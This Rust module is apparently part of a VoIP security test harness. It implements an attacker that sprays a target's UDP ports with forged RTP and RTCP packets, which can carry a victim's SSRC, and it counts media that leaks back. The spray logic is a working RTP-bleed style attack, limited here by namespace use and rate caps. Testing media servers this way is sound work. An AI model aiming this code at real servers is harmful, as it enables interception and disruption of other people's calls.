//! A hostile host: sprays a range of ports with plausible RTP and RTCP and listens for what leaks back.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};

use crate::clock;
use crate::netns::Namespace;
use crate::rtp::{Stream, is_quiet};

/// No attack is longer, whatever is asked for.
pub const ATTACK_MAX: Duration = Duration::from_secs(30);

/// No attack sends more a second.
pub const PACKETS_PER_SECOND_MAX: u32 = 20_000;

/// What to spray.
#[derive(Clone, Copy, Debug)]
pub struct Spray {
    pub target: IpAddr,
    /// First and last port; all of them are hit in each round.
    pub ports: (u16, u16),
    pub rounds_per_second: u32,
    /// At most.
    pub time: Duration,
    /// Of the packets; a victim's own SSRC makes them more plausible.
    pub ssrc: u32,
    pub what: What,
}

/// What the packets are.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum What {
    Rtp,
    /// RTP to even ports and RTCP to odd ones, and in every other round the reverse.
    RtpAndRtcp,
}

/// How far an attack is, and how to end it early.
#[derive(Debug, Default)]
pub struct Watch {
    pub rounds: AtomicU32,
    pub stop: AtomicBool,
}

/// What came of it.
#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
pub struct Loot {
    pub sent: u64,
    /// Datagrams that came back: media that leaked to the attacker.
    pub received: u64,
    pub received_bytes: u64,
}

/// Attacks from `namespace` until the time is over, or `watch` says so.
///
/// # Errors
/// More than the limits allow, or no route to the target.
pub fn spray(namespace: &Namespace, how: Spray, watch: &Watch) -> Result<Loot> {
    let (first, last) = how.ports;
    ensure!(
        first <= last,
        "ports {first}-{last}: the first is above the last"
    );
    let rate = (u32::from(last - first) + 1).saturating_mul(how.rounds_per_second);
    ensure!(
        (1..=PACKETS_PER_SECOND_MAX).contains(&rate),
        "{rate} packets a second: allowed are 1 to {PACKETS_PER_SECOND_MAX}"
    );
    ensure!(
        how.time <= ATTACK_MAX,
        "{:?}: no attack is longer than {ATTACK_MAX:?}",
        how.time
    );
    let any = if how.target.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    };
    let socket = namespace
        .enter(|| UdpSocket::bind(any))?
        .context("attacker's socket")?;
    attack(&socket, how, watch)
}

fn attack(socket: &UdpSocket, how: Spray, watch: &Watch) -> Result<Loot> {
    let mut loot = Loot::default();
    let (start, (first, last)) = (clock::now(), how.ports);
    let interval = Duration::from_secs(1) / how.rounds_per_second;
    for round in 0u32.. {
        let due = start + interval * round;
        if due >= start + how.time || watch.stop.load(Ordering::Relaxed) {
            break;
        }
        collect(socket, due, &mut loot)?;
        watch.rounds.store(round, Ordering::Relaxed);
        for port in first..=last {
            let packet = packet(how, port, round);
            match socket.send_to(&packet, SocketAddr::new(how.target, port)) {
                Ok(_) => loot.sent += 1,
                Err(e) if is_quiet(e.kind()) => {}
                Err(e) => return Err(e).context("spray"),
            }
        }
    }
    collect(socket, clock::now() + interval, &mut loot)?;
    Ok(loot)
}

/// What a port is hit with in a round.
fn packet(how: Spray, port: u16, round: u32) -> Vec<u8> {
    let is_report = u32::from(port) % 2 != round % 2;
    if how.what == What::RtpAndRtcp && is_report {
        let mut report = vec![0x80, 200, 0, 6];
        report.extend(how.ssrc.to_be_bytes());
        report.extend([0x66; 20]);
        return report;
    }
    Stream::voice(how.ssrc, 0).packet(round)
}

fn collect(socket: &UdpSocket, until: Instant, loot: &mut Loot) -> Result<()> {
    let mut buffer = [0; 2048];
    loop {
        let left = until.saturating_duration_since(clock::now());
        if left.is_zero() {
            return Ok(());
        }
        socket.set_read_timeout(Some(left.max(Duration::from_micros(100))))?;
        match socket.recv(&mut buffer) {
            Ok(bytes) => {
                loot.received += 1;
                loot.received_bytes += bytes as u64;
            }
            Err(e) if is_quiet(e.kind()) => {}
            Err(e) => return Err(e).context("collect"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rtp::Header;

    #[test]
    fn ports_get_what_is_theirs_and_then_the_other() {
        for (what, port, round, is_rtp) in [
            (What::Rtp, 30_000, 1, true),
            (What::Rtp, 30_001, 0, true),
            (What::RtpAndRtcp, 30_000, 0, true),
            (What::RtpAndRtcp, 30_001, 0, false),
            (What::RtpAndRtcp, 30_000, 1, false),
            (What::RtpAndRtcp, 30_001, 1, true),
        ] {
            let how = Spray {
                target: IpAddr::from([192, 0, 2, 1]),
                ports: (30_000, 30_001),
                rounds_per_second: 1,
                time: Duration::ZERO,
                ssrc: 5,
                what,
            };
            let packet = packet(how, port, round);
            let found = Header::parse(&packet).map(|header| header.ssrc);
            assert_eq!(found, is_rtp.then_some(5), "{what:?} {port} {round}");
        }
    }
}
